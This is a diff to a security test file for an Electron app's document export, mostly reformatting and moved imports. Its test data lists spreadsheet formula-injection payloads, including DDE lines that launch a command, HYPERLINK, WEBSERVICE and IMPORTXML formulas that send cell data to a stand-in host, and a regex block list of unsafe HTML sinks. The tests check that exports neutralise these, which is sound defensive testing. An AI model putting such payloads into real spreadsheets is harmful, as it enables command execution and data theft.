@@ -5,14 +5,14 @@ import { fileURLToPath } from 'node:url'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { exportDocuments } from '../../electron/core/export/export.ts'
 import type { ExportDocument } from '../../electron/core/export/records.ts'
-import { contentSecurityPolicy } from '../../electron/headless.ts'
+import { contentSecurityPolicy } from '../../electron/browser/serve-window.ts'
 import { formatsFor } from '../../renderer/messages/formats.ts'
 import { labelOf, valueText } from '../../renderer/messages/values.ts'
-import { blocksOf } from '../../renderer/screens/ask/blocks.ts'
+import { blocksOf } from '../../renderer/screens/ask/message.tsx'
 import { hrefOf } from '../../renderer/client/route.ts'
-import type { SchemaElement } from '../../shared/schema.ts'
-import { locales, sentenceFor } from '../../shared/sentences.ts'
-import type { Locale } from '../../shared/sentences.ts'
+import type { SchemaElement } from '../../shared/domain/schema.ts'
+import { locales, sentenceFor } from '../../shared/messages/sentences.ts'
+import type { Locale } from '../../shared/messages/sentences.ts'
 import { parseCsv, readXlsx, unzip } from '../unit/export/read-back.ts'
 
 const renderer = fileURLToPath(new URL('../../renderer/', import.meta.url))
@@ -45,7 +45,9 @@ describe('F18 HTML, pictures and links in what others wrote', () => {
   })
 
   it('fill a sentence once: a placeholder in what a service said is not filled again', () => {
-    expect(sentenceFor('extraction_failed', { detail: '{secret} {detail}', secret: 'X' }, 'en')).toContain('{secret} {detail}')
+    expect(sentenceFor('extraction_failed', { detail: '{secret} {detail}', secret: 'X' }, 'en')).toContain(
+      '{secret} {detail}',
+    )
   })
 
   it('have no way into the page but as text: nothing in the window writes HTML, runs text or opens an address that it was given', async () => {
@@ -53,7 +55,9 @@ describe('F18 HTML, pictures and links in what others wrote', () => {
     expect(files.length).toBeGreaterThan(50)
     for (const name of files) {
       const source = await readFile(join(renderer, name), 'utf8')
-      expect(source, name).not.toMatch(/dangerouslySetInnerHTML|innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|createContextualFragment|srcdoc|\beval\(|new Function\(|window\.open\(|location\.(href\s*=[^=]|assign\(|replace\((?!hrefOf))/i)
+      expect(source, name).not.toMatch(
+        /dangerouslySetInnerHTML|innerHTML|outerHTML|insertAdjacentHTML|document\.write|DOMParser|createContextualFragment|srcdoc|\beval\(|new Function\(|window\.open\(|location\.(href\s*=[^=]|assign\(|replace\((?!hrefOf))/i,
+      )
       // Addresses are the window's own: a screen of it, or the bytes of a document or an export by their number.
       for (const [, target] of source.matchAll(/\b(?:href|src|formAction|xlinkHref|poster|ping)=\{([^}]*)\}?/g)) {
         expect(target, `${name}: an address that is not the window's own`).toMatch(/^(hrefOf|fileUrl|exportUrl)\(/)
@@ -64,28 +68,73 @@ describe('F18 HTML, pictures and links in what others wrote', () => {
   })
 
   it('lead nowhere as a part of an address of the window', () => {
-    for (const text of lures('http://lure.test/')) expect(hrefOf({ screen: 'ask', id: text as unknown as number })).toMatch(/^#\//)
+    for (const text of lures('http://lure.test/'))
+      expect(hrefOf({ screen: 'ask', id: text as unknown as number })).toMatch(/^#\//)
   })
 })
 
 const formulas = [
-  '=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '\0=1', ' =1', '\u00a0=1', '\ufeff=1', '\u200b=1', '＝1+1', '＋1', '－1+1', '＠x',
-  "=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", '=HYPERLINK("http://lure.test/?"&A1,"pay")', '=WEBSERVICE("http://lure.test/")', '=IMPORTXML("http://lure.test/","//a")',
-  '@SUM(1+1)*cmd|\'/c calc\'!A0', '=DDE("cmd";"/c calc";"1")', '"=1+1"', "'=1+1", '=1;=2,=3\t=4', '+49 170 1234567',
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '\0=1',
+  ' =1',
+  '\u00a0=1',
+  '\ufeff=1',
+  '\u200b=1',
+  '＝1+1',
+  '＋1',
+  '－1+1',
+  '＠x',
+  "=cmd|'/c calc'!A0",
+  "+cmd|'/c calc'!A0",
+  "-2+3+cmd|'/c calc'!A0",
+  '=HYPERLINK("http://lure.test/?"&A1,"pay")',
+  '=WEBSERVICE("http://lure.test/")',
+  '=IMPORTXML("http://lure.test/","//a")',
+  "@SUM(1+1)*cmd|'/c calc'!A0",
+  '=DDE("cmd";"/c calc";"1")',
+  '"=1+1"',
+  "'=1+1",
+  '=1;=2,=3\t=4',
+  '+49 170 1234567',
 ]
 /** Whatever a spreadsheet may skip before it looks for a formula. */
 const startsFormula = /^[\s\p{Cf}\p{Zs}\p{Cc}]*[=+\-@＝＋－＠]/u
-const aNumber: Record<Locale, RegExp> = { en: /^[+-]?[\d,]+(\.\d+)?$/, de: /^[+-]?[\d.]+(,\d+)?$/, fr: /^[+-]?[\d\u00a0\u202f]+(,\d+)?$/ }
-const visible = (text: string): string => text.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, '') // eslint-disable-line no-control-regex
+const aNumber: Record<Locale, RegExp> = {
+  en: /^[+-]?[\d,]+(\.\d+)?$/,
+  de: /^[+-]?[\d.]+(,\d+)?$/,
+  fr: /^[+-]?[\d\u00a0\u202f]+(,\d+)?$/,
+}
+const visible = (text: string): string => text.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, '')
 
 const schema: SchemaElement[] = [
   ...formulas.map((name) => ({ name, format: 'text' as const, description: '' })),
   { name: 'amount', format: 'number', description: '' },
-  { name: '=list|x!A0', format: 'list', description: '', items: [{ name: '@item', format: 'text', description: '' }, { name: 'number', format: 'number', description: '' }] },
+  {
+    name: '=list|x!A0',
+    format: 'list',
+    description: '',
+    items: [
+      { name: '@item', format: 'text', description: '' },
+      { name: 'number', format: 'number', description: '' },
+    ],
+  },
 ]
 const documents: ExportDocument[] = formulas.map((formula) => ({
   fileName: `${formula}.pdf`,
-  records: [{ ...Object.fromEntries(formulas.map((name) => [name, formula])), amount: -12.5, [`${formula} beside`]: formula, '=list|x!A0': [{ '@item': formula, number: -0.25 }] }],
+  records: [
+    {
+      ...Object.fromEntries(formulas.map((name) => [name, formula])),
+      amount: -12.5,
+      [`${formula} beside`]: formula,
+      '=list|x!A0': [{ '@item': formula, number: -0.25 }],
+    },
+  ],
 }))
 
 describe('F19 formulas in values, in the names of fields, of files and of sheets', () => {
@@ -110,7 +159,8 @@ describe('F19 formulas in values, in the names of fields, of files and of sheets
       for (const row of rows) expect(row[at]).toBe(locale === 'en' ? '-12.5' : '-12,5')
       // What the person reads is the text as it came, behind one apostrophe.
       const values = rows.map((row) => row[header!.indexOf("'=1+1")]!)
-      for (const [index, value] of values.entries()) expect(value.replace(/^'/, '')).toBe(visible(formulas[index]!).replace(/^'/, ''))
+      for (const [index, value] of values.entries())
+        expect(value.replace(/^'/, '')).toBe(visible(formulas[index]!).replace(/^'/, ''))
       expect(values[formulas.indexOf('+49 170 1234567')]).toBe("'+49 170 1234567")
     })
   }
@@ -127,7 +177,8 @@ describe('F19 formulas in values, in the names of fields, of files and of sheets
       expect(row[header.indexOf('amount')]).toMatchObject({ type: 'n', value: '-12.5' })
       expect(row[column]).toMatchObject({ type: 'inlineStr', value: visible(formulas[index]!).replace(/\r\n?/g, '\n') })
     }
-    for (const cell of list!.cells.slice(1).map((row) => row.at(-1))) expect(cell).toMatchObject({ type: 'n', value: '-0.25' })
+    for (const cell of list!.cells.slice(1).map((row) => row.at(-1)))
+      expect(cell).toMatchObject({ type: 'n', value: '-0.25' })
     const parts = await unzip(path)
     for (const [name, xml] of parts) {
       expect(name).not.toMatch(/externalLink|vba|macro|connections|\.bin$/i)
